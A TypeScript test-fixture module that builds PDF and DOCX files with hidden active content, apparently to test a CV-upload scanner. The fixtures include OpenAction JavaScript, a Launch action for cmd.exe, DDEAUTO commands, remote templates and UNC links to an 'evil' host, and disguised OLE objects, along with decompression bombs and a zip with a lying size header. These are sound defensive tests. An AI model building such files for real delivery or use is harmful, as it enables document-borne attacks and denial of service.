import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { docxOf, linkTo, wordParts, zipOf } from './some-files.ts';

const text = (value: string) => new TextEncoder().encode(value);

/** A PDF of one page. `catalog` stands in its catalog, `beside` before its first object, `more` after its last. */
export function pdfWith({ catalog = '', beside = '', more = '' }: { catalog?: string; beside?: string; more?: string | Uint8Array }) {
  return Buffer.concat([
    text(`%PDF-1.7\n${beside}1 0 obj\n<</Type /Catalog /Pages 2 0 R ${catalog}>>\nendobj\n`),
    text('2 0 obj\n<</Type /Pages /Kids [3 0 R] /Count 1>>\nendobj\n3 0 obj\n<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>\nendobj\n'),
    typeof more === 'string' ? text(more) : more,
    text('\ntrailer\n<</Root 1 0 R /Size 9>>\n%%EOF\n'),
  ]);
}

/** Between two comments that a search for streams takes for one. */
const hidden = (object: string) => pdfWith({ catalog: '/OpenAction 7 0 R', more: `% stream\n7 0 obj\n${object}\nendobj\n% endstream\n` });

export const packedObjects = (objects: string, head = '') =>
  Buffer.concat([
    text(`7 0 obj\n<<${head} /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\n`),
    deflateSync(objects),
    text('\nendstream\nendobj'),
  ]);

const relation = (mode: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.test/t.dotm" TargetMode="${mode}"/></Relationships>`;
const utf16 = (said: string) => Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${said}`, 'utf16le');
const body = (inside: string) => ({ ...wordParts, 'word/document.xml': `<w:document><w:p>${inside}</w:p></w:document>` });
const field = (...words: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words.map((word) => `<w:r><w:instrText>${word}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const oleObject = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(600).fill(0)]);

/** Files that do more than be read, by ways around a check that only searches for words. */
export const disguisedFiles: [what: string, name: string, bytes: Uint8Array][] = [
  ['a script on opening between comments', 'cv.pdf', hidden('<</S /JavaScript /JS (app.alert(1))>>')],
  ['a program on opening between comments', 'cv.pdf', hidden('<</S /Launch /F (cmd.exe)>>')],
  ['an XFA form with a script', 'cv.pdf', pdfWith({ catalog: '/AcroForm <</Fields [] /XFA (<xdp:xdp><script/></xdp:xdp>)>>' })],
  ['a form that sends itself on opening', 'cv.pdf', pdfWith({ catalog: '/OpenAction <</S /SubmitForm /F (https://example.test/)>>' })],
  [
    'a way to another machine on opening',
    'cv.pdf',
    pdfWith({ catalog: '/OpenAction <</S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit]>>' }),
  ],
  ['a packed script whose head says obj', 'cv.pdf', pdfWith({ more: packedObjects('8 0 <</S /JavaScript /JS (x)>>', '/Note (obj)') })],
  ['an attached file', 'cv.pdf', pdfWith({ more: '7 0 obj\n<</Type /Filespec /UF (a.exe) /EF <</F 8 0 R>>>>\nendobj' })],
  ['a link that starts a script', 'cv.pdf', pdfWith({ more: '7 0 obj\n<</Subtype /Link /A <</S /URI /URI (javascript:x)>>>>\nendobj' })],
  [
    'a link to a script in a dictionary of its own',
    'cv.pdf',
    pdfWith({ catalog: '/OpenAction 7 0 R', more: '7 0 obj\n8 0 R\nendobj\n8 0 obj\n<</S /URI /URI (javascript:x)>>\nendobj' }),
  ],
  ['an action that is a reference to a reference', 'cv.pdf', pdfWith({ catalog: '/OpenAction 7 0 R', more: '7 0 obj\n8 0 R\nendobj' })],
  ['a thread of another file', 'cv.pdf', pdfWith({ more: '7 0 obj\n<</S /Thread /F (\\\\\\\\evil\\\\a.pdf)>>\nendobj' })],
  [
    'a picture that a press loads from elsewhere',
    'cv.pdf',
    pdfWith({ more: '7 0 obj\n<</Subtype /Image /OPI <</2.0 <</F (\\\\\\\\evil\\\\a.tif)>>>>>>\nendobj' }),
  ],
  ['a page of the web as a film', 'cv.docx', zipOf(body('<wp15:webVideoPr embeddedHtml="&lt;script&gt;x&lt;/script&gt;" h="1" w="1"/>'))],
  ['a picture of a drawing from a link', 'cv.docx', zipOf(body('<v:imagedata o:href="https://example.test/a.png"/>'))],
  ['a link to a program behind a switch', 'cv.docx', zipOf(body(field('HYPERLINK \\t "_blank" "file:///c:/a.exe"')))],
  ['a link to a machine of the network behind a switch', 'cv.docx', zipOf(body(field('HYPERLINK \\l "a" ', '\\\\evil\\a')))],
  ['a template by an entity', 'cv.docx', zipOf({ ...wordParts, 'word/_rels/settings.xml.rels': relation('&#69;xternal') })],
  ['a template in UTF-16', 'cv.docx', docxOf({ 'word/_rels/settings.xml.rels': utf16(relation('External')) })],
  ['an OLE object as media', 'cv.docx', docxOf({ 'word/media/o1.bin': oleObject })],
  ['an OLE object as a picture', 'cv.docx', docxOf({ 'word/media/o1.png': oleObject })],
  ['DDEAUTO', 'cv.docx', zipOf(body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))],
  ['DDEAUTO in pieces', 'cv.docx', zipOf(body(field('DDE', 'AUTO cmd')))],
  ['DDE in a simple field', 'cv.docx', zipOf(body('<w:fldSimple w:instr="DDE cmd"/>'))],
  ['a program beside', 'cv.docx', docxOf({ 'word/setup.exe': text('MZ') })],
  ['a picture of a drawing from elsewhere', 'cv.docx', zipOf(body('<v:imagedata src="https://example.test/a.png"/>'))],
  [
    'a document type',
    'cv.docx',
    zipOf({ ...wordParts, 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document>&b;</w:document>' }),
  ],
  [
    'a link to a machine of the network',
    'cv.docx',
    zipOf({ ...wordParts, 'word/_rels/document.xml.rels': linkTo('hyperlink', '\\\\evil\\a') }),
  ],
];

const zeros = new Uint8Array(100 * 1024 * 1024);
/** 100 MB whose directory says 10 bytes. */
export function lyingZip(): Uint8Array {
  const zip = Buffer.from(zipSync({ ...packedParts(), 'word/styles.xml': zeros }, { level: 6 }));
  const lie = (mark: string, at: number, nameAt: number) => {
    for (let from = zip.indexOf(mark, 0, 'latin1'); from >= 0; from = zip.indexOf(mark, from + 1, 'latin1'))
      if (zip.toString('latin1', from + nameAt, from + nameAt + 15) === 'word/styles.xml') zip.writeUInt32LE(10, from + at);
  };
  lie('PK\x01\x02', 24, 46);
  lie('PK\x03\x04', 22, 30);
  return new Uint8Array(zip);
}
const packedParts = () => Object.fromEntries(Object.entries(wordParts).map(([name, part]) => [name, text(part)]));

/** Files that are small and make a careless search run without end. */
export const costlyFiles: [what: string, name: string, bytes: () => Uint8Array][] = [
  ['33 million names in 65 KB', 'cv.pdf', () => pdfWith({ more: packedObjects(`8 0 [${'/a'.repeat(33_500_000)}]`) })],
  [
    'a filter and 100,000 spaces',
    'cv.pdf',
    () => pdfWith({ more: `7 0 obj\n<</Type /ObjStm /Filter${' '.repeat(100_000)}>>\nstream\nx\nendstream\nendobj` }),
  ],
  ['70 MB of packed spaces', 'cv.pdf', () => pdfWith({ more: packedObjects(`8 0 ${' '.repeat(70_000_000)}`) })],
  [
    '70 MB of packed spaces under a disguised name',
    'cv.pdf',
    () =>
      pdfWith({
        more: Buffer.from(
          packedObjects(`8 0 ${' '.repeat(70_000_000)}`)
            .toString('latin1')
            .replace('/ObjStm', '/Obj#53tm'),
          'latin1',
        ),
      }),
  ],
  ['lists in lists without end', 'cv.pdf', () => pdfWith({ more: `7 0 obj\n${'['.repeat(1_000_000)}` })],
  [
    '30,000 relationships that begin, in 2.4 KB',
    'cv.docx',
    () => zipSync({ ...packedParts(), 'word/_rels/document.xml.rels': text('<Relationship '.repeat(30_000)) }, { level: 6 }),
  ],
  ['a directory that lies about 100 MB', 'cv.docx', lyingZip],
  ['100 MB as its directory says', 'cv.docx', () => zipSync({ ...packedParts(), 'word/styles.xml': zeros }, { level: 6 })],
];
